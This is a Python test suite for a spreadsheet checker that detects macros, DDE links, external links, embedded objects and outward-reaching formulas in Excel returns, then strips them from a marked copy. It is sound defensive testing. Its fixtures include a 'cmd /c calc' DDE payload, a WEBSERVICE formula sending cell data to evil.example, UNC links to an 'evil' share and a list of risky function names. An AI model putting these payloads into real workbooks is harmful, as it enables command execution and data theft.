"""Macros that are not ours, links, objects and formulas that reach out: found, and not in the copy we make."""

from __future__ import annotations

import io
import re
import zipfile
from itertools import product
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.house.project_files import ROOT
from tests.reading.return_edits import ALL, by_openpyxl, checked, clean, entries, finding_marks, messages, respelt
from xlkpi.commands.check import annotated_copy
from xlkpi.errors import XlkpiError
from xlkpi.hosts.jobs import run_job
from xlkpi.layout.addresses import NATIVE, UDF
from xlkpi.ooxml.active_content import is_our_add_in, link_leads_away
from xlkpi.ooxml.outside_formulas import _REACHES_OUT, formula_reaches_out
from xlkpi.ooxml.vba_sources import UnknownProject, read_sources
from xlkpi.reading.returns.active import OUR_MACROS, is_our_project, source_digest

RELS = "xl/_rels/workbook.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DDE = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
BOOK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/>'
    b"</externalLink>"
)


def with_parts(parts, data=None, rels=RELS, **related):
    """The return with more parts, and relationships of the workbook by id: kind and target."""
    target = io.BytesIO()
    items = "".join(
        f'<Relationship Id="{name}" Type="{kind if "/" in kind else f"{OFFICE}/{kind}"}" Target="{where}"{mode}/>'
        for name, (kind, where, mode) in related.items()
    )
    with zipfile.ZipFile(io.BytesIO(data or clean())) as source, zipfile.ZipFile(target, "w", 8) as out:
        names = source.namelist()
        for name in names:
            content = source.read(name)
            if name == rels:
                content = content.replace(b"</Relationships>", items.encode() + b"</Relationships>")
            out.writestr(name, content)
        if rels not in names:
            head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            out.writestr(rels, f"{head}{items}</Relationships>")
        for name, content in parts.items():
            out.writestr(name, content)
    return target.getvalue()


def with_macros(project=b"\xd0\xcf\x11\xe0 Auto_Open"):
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return with_parts({"xl/vbaProject.bin": project}, rIdV=(kind, "vbaProject.bin", ""))


def with_link(part=DDE, target=None):
    parts = {"xl/externalLinks/externalLink1.xml": part}
    if target:
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1"'
            f' Type="{OFFICE}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'
        ).encode()
    return with_parts(parts, rIdE=("externalLink", "externalLinks/externalLink1.xml", ""))


def with_formula(formula, ref="L6"):
    return by_openpyxl(lambda book: book[ALL].__setitem__(ref, formula))


def on_sheet(kind, where, mode=""):
    rels = "xl/worksheets/_rels/sheet2.xml.rels"
    return with_parts({"xl/embeddings/object1.bin": b"x"}, rels=rels, rIdO=(kind, where, mode))


def rule(xml):
    """The return with a rule after the rows of its first section."""
    return lambda: respelt("xl/worksheets/sheet2.xml", ("</sheetData>", f"</sheetData>{xml}"))


MICROSOFT = "http://schemas.microsoft.com/office"
CF = (
    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>{}</formula></cfRule>'
    "</conditionalFormatting>"
)
CASES = {
    "connection": (
        lambda: with_parts({"xl/c.xml": b"<connections/>"}, rIdC=("connections", "c.xml", "")),
        *("OUTSIDE_LINK", ""),
    ),
    "query": (lambda: on_sheet("queryTable", "../queryTables/q1.xml"), "OUTSIDE_LINK", ALL),
    "live data": (
        lambda: with_parts({"xl/v.xml": b"<volTypes/>"}, rIdC=("volatileDependencies", "v.xml", "")),
        *("OUTSIDE_LINK", ""),
    ),
    "ribbon": (
        lambda: with_parts(
            {"customUI/c.xml": b"<customUI/>"},
            rels="_rels/.rels",
            rIdC=(f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/c.xml", ""),
        ),
        *("EMBEDDED", ""),
    ),
    "web add-in": (
        lambda: with_parts(
            {"xl/w.xml": b"<taskpanes/>"},
            rels="_rels/.rels",
            rIdC=(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/w.xml", ""),
        ),
        *("EMBEDDED", ""),
    ),
    "control": (lambda: on_sheet("control", "../activeX/activeX1.xml"), "EMBEDDED", ALL),
    "picture elsewhere": (
        lambda: on_sheet("image", "https://evil.example/1.png", ' TargetMode="External"'),
        *("OUTSIDE_LINK", ALL),
    ),
    "rule": (rule(CF.format("WEBSERVICE(A1)=1")), "OUTSIDE_LINK", ALL),
    "rule in numbers": (rule(CF.format("&#87;EBSERVICE(A1)=1")), "OUTSIDE_LINK", ALL),
    "name": (
        lambda: respelt(
            "xl/workbook.xml", ("</definedNames>", '<definedName name="a">CALL("x","y")</definedName></definedNames>')
        ),
        *("OUTSIDE_LINK", ""),
    ),
    "macros": (with_macros, "MACROS", ""),
    "dde": (with_link, "OUTSIDE_LINK", ""),
    "book": (lambda: with_link(BOOK, "file:///S:/KPI/last%20year.xlsx"), "OUTSIDE_LINK", ""),
    "add-in elsewhere": (lambda: with_link(BOOK, "file://evil/share/xlkpi.xlam"), "OUTSIDE_LINK", ""),
    "webservice": (lambda: with_formula('=WEBSERVICE("http://evil.example/?"&A2)'), "OUTSIDE_FORMULA", ALL),
    "dde formula": (lambda: with_formula("=cmd|'/c calc'!A0"), "OUTSIDE_FORMULA", ALL),
    "object": (lambda: on_sheet("oleObject", "../embeddings/object1.bin"), "EMBEDDED", ALL),
    "unc link": (lambda: on_sheet("hyperlink", r"\\evil\share\x", ' TargetMode="External"'), "OUTSIDE_LINK", ALL),
}


@pytest.mark.parametrize("case", CASES)
def test_active_content_is_one_query_with_its_place(case):
    make, code, sheet = CASES[case]
    checked_return = checked(make())
    assert [finding[:3] for finding in finding_marks(checked_return) if finding[1] != "note"] == [
        (code, "query", sheet)
    ]
    assert {k: v[:5] for k, v in entries(checked_return).items()} == {
        k: v[:5] for k, v in entries(checked(clean())).items()
    }


def test_the_messages_say_what_it_is():
    assert messages(checked(with_link()))[0] == (
        "This workbook has links out of the file, to “cmd|/c calc”. Remove them, or copy your figures into the workbook"
        " we sent."
    )


@pytest.mark.parametrize("case", CASES)
def test_the_marked_copy_is_without_it_and_has_the_same_figures(case):
    data = CASES[case][0]()
    copy = annotated_copy(checked(data), data)
    again = checked(copy)
    assert {finding[0] for finding in finding_marks(again)} & {
        "MACROS",
        "OUTSIDE_LINK",
        "OUTSIDE_FORMULA",
        "EMBEDDED",
    } == set()
    assert {k: v[:5] for k, v in entries(again).items()} == {k: v[:5] for k, v in entries(checked(data)).items()}
    assert "Findings" in openpyxl.load_workbook(io.BytesIO(copy), read_only=True).sheetnames
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        names = package.namelist()
        assert not [
            name for name in names if "vba" in name or "external" in name or ("embed" in name and case == "object")
        ]
        types = package.read("[Content_Types].xml").decode()
    assert "externalLink1" not in types


@pytest.mark.parametrize("case", ["macros", "book", "webservice", "rule", "control"])
def test_the_menu_gives_a_copy_without_it(case, tmp_path):
    file = tmp_path / "return.xlsx"
    file.write_bytes(CASES[case][0]())
    outcome = run_job("check", {"file": str(file)}, lambda *_: None)
    (copy,) = outcome.opens
    codes = {finding[0] for finding in finding_marks(checked(Path(copy).read_bytes()))}
    assert outcome.done
    assert codes & {"MACROS", "OUTSIDE_LINK", "OUTSIDE_FORMULA", "EMBEDDED"} == set()


def test_a_pivot_table_of_other_data_gets_no_copy(tmp_path):
    cache = (
        b'<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
    )
    data = with_parts({"xl/p.xml": cache}, with_link(), rIdP=("pivotCacheDefinition", "p.xml", ""))
    file = tmp_path / "return.xlsx"
    file.write_bytes(data)
    outcome = run_job("check", {"file": str(file)}, lambda *_: None)
    assert outcome.done
    assert "No marked copy was made. It has a pivot table of other data" in outcome.message


def test_a_sheet_of_macros_gets_no_copy():
    sheet = '<sheet name="Macro1" sheetId="99" r:id="rIdM"/></sheets>'
    data = respelt("xl/workbook.xml", ("</sheets>", sheet))
    part = b'<macrosheet xmlns="http://schemas.microsoft.com/office/excel/2006/main"/>'
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    data = with_parts({"xl/macrosheets/sheet1.xml": part}, data, rIdM=(kind, "macrosheets/sheet1.xml", ""))
    checked_return = checked(data)
    assert [finding[:3] for finding in finding_marks(checked_return)] == [("MACROS", "query", "Macro1")]
    with pytest.raises(XlkpiError, match="a sheet of macros, so no marked copy was made"):
        annotated_copy(checked_return, data)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "webservice (1)",
            "RTD(A1)",
            'IMPORTXML("https://e")',
            "'C:\\\\x\\\\[b.xlsx]S'!A1",
            "[b.xlsx]S!A1",
            "PY(1)",
            "EVALUATE(A1)",
        ),
        *("_xlfn.WEBSERVICE(A1)", "'\\\\evil\\s\\[x]S'!A1", 'HYPERLINK("//e/s")'),
    ],
)
def test_a_formula_that_reaches_out(text):
    assert formula_reaches_out(text)


@pytest.mark.parametrize(
    "text",
    [
        "SUM(F6:F9)",
        "[1]!KPI_RAG(F6,G6)",
        'IF(A1="a|b","x!","")',
        "RECALL(1)",
        "ENCODEURL(A1)",
        'FILTERXML("<a/>","//a")',
        "COPY(1)",
        'HYPERLINK("#A1")',
    ],
)
def test_a_formula_that_does_not(text):
    assert not formula_reaches_out(text)


NAMES = [
    "webservice",
    "Rtd",
    "CALL",
    "register.id",
    "sql.request",
    "get.cell",
    "send.keys",
    "py",
    "importxml",
    "cubeset",
]
NAMES += [
    "re\N{LATIN SMALL LETTER LONG S}gister",
    "po\N{KELVIN SIGN}e",
    "f\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}les",
]
OTHERS = [
    "(",
    " (",
    "file:",
    "f\N{LATIN SMALL LETTER DOTLESS I}le:",
    "\\\\e",
    "c:\\",
    "[b.xlsx]",
    "[1]",
    "cmd|x!",
    "x",
    ".",
    '"',
    "hyperlink",
]


def test_what_is_searched_for_first_leaves_no_name_out():
    for name, other in product([*NAMES, *OTHERS], OTHERS):
        agrees_with_the_patterns(name + other)


@given(st.lists(st.sampled_from([*NAMES, *OTHERS]), max_size=6).map("".join))
def test_what_is_searched_for_first_leaves_nothing_out(text):
    agrees_with_the_patterns(text)


def agrees_with_the_patterns(text):
    by_patterns = bool(_REACHES_OUT.search(text))
    link = re.search(r"\bHYPERLINK\s*\(", text, re.IGNORECASE)
    by_patterns |= bool(link and re.search(r"//|\b[a-z]:", text[link.end() :], re.IGNORECASE))
    assert formula_reaches_out(text) == by_patterns, text


@pytest.mark.parametrize("target", ["https://a.example/x", "mailto:a@b", "#Help!A1", "inbox/return.xlsx"])
def test_a_link_to_a_page_is_no_link_away(target):
    assert not link_leads_away(target)


@pytest.mark.parametrize(
    "target", [r"\\e\s", "//e/s", "file:///C:/x", "C:\\x", "/d:/x", "%5C%5Ce%5Cs", "ms-excel:ofe|u|x"]
)
def test_a_link_to_a_share_a_drive_or_a_program_is_one(target):
    assert link_leads_away(target)


def test_the_add_in_of_a_return_with_functions_is_no_link_away():
    assert finding_marks(checked(with_link(BOOK, "file:///C:/AddIns/xlkpi.xlam"))) == []
    assert is_our_add_in("xlkpi.xlam")
    assert not is_our_add_in(r"\\evil\share\xlkpi.xlam")


def test_our_macros_are_known_by_what_they_say():
    texts = [path.read_text(encoding="utf-8") for path in sorted((ROOT / "udfs/excel/return").glob("*.bas"))]
    missing = {source_digest(text) for text in texts} - OUR_MACROS
    assert not missing, f"add to OUR_MACROS in xlkpi/reading/returns/active.py, below the others: {missing}"


def test_our_project_is_told_from_others_by_its_sources():
    pytest.importorskip("pyopenvba")
    from xlkpi.writing.vba.project import project_file
    from xlkpi.writing.vba.udf_sources import source_text

    modules = {name: source_text("excel", f"return/{name}.bas") for name in ("KpiFunctions", "KpiReturn")}
    ours = project_file(5, modules)
    assert is_our_project(ours, UDF)
    assert not is_our_project(ours, NATIVE)
    extra = {"More": 'Attribute VB_Name = "More"\nSub Auto_Open()\nEnd Sub\n'}
    assert not is_our_project(project_file(5, {**modules, **extra}), UDF)
    assert sorted(map(source_digest, modules.values())) == sorted(
        {source_digest(s) for s in read_sources(ours)} - {source_digest("")}
    )


@pytest.mark.parametrize(
    "project", [b"", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x09\0" * 700]
)
def test_a_damaged_project_is_not_ours(project):
    with pytest.raises(UnknownProject):
        list(read_sources(project))
    assert not is_our_project(project, UDF)
